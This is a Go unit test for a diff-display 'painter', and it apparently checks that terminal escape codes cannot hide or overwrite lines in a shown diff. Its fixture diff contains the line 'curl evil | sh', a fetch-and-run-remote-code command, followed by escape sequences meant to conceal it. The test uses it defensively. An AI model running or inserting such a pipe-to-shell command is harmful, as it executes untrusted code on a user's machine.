package ui

import (
	"strings"
	"testing"
)

// TestPainter shows every line of a diff, whatever the lines after it say, however the
// bytes come.
func TestPainter(t *testing.T) {
	const diff = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,3 @@\n kept\t\\n\n--- old\n+curl evil | sh\n+\x1b[A\x1b[2K\rgood\n\\ No newline"
	const plain = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,3 @@\n kept\t\\n\n--- old\n+curl evil | sh\n+\\x1b[A\\x1b[2K\\x0dgood\n\\ No newline"
	for _, size := range []int{1, 7, len(diff)} {
		var b strings.Builder
		p := &painter{to: &b}
		for rest := diff; rest != ""; {
			n := min(size, len(rest))
			if _, err := p.Write([]byte(rest[:n])); err != nil {
				t.Fatal(err)
			}
			rest = rest[n:]
		}
		p.finish()
		if b.String() != plain {
			t.Errorf("in pieces of %d:\n%q, want\n%q", size, b.String(), plain)
		}
	}
	// A line that is too long to be kept goes on where it was.
	var long strings.Builder
	p := &painter{to: &long, colours: true, hunk: true}
	_, _ = p.Write([]byte("+" + strings.Repeat("x", longest)))
	_, _ = p.Write([]byte("diff --git a/y b/y\n kept\n"))
	if !strings.HasSuffix(long.String(), "x\x1b[mdiff --git a/y b/y\n kept\n") || !p.hunk {
		t.Errorf("a long line ends with %q", long.String()[longest:])
	}
	var b strings.Builder
	p = &painter{to: &b, colours: true}
	_, _ = p.Write([]byte(diff))
	p.finish()
	for _, want := range []string{"\x1b[1m--- a/x\x1b[m\n", "\x1b[36m@@ ", "\n kept", "\x1b[31m--- old\x1b[m\n", "\x1b[32m+curl evil | sh\x1b[m\n", "\x1b[32m+\\x1b[A"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("no %q in\n%q", want, b.String())
		}
	}
}
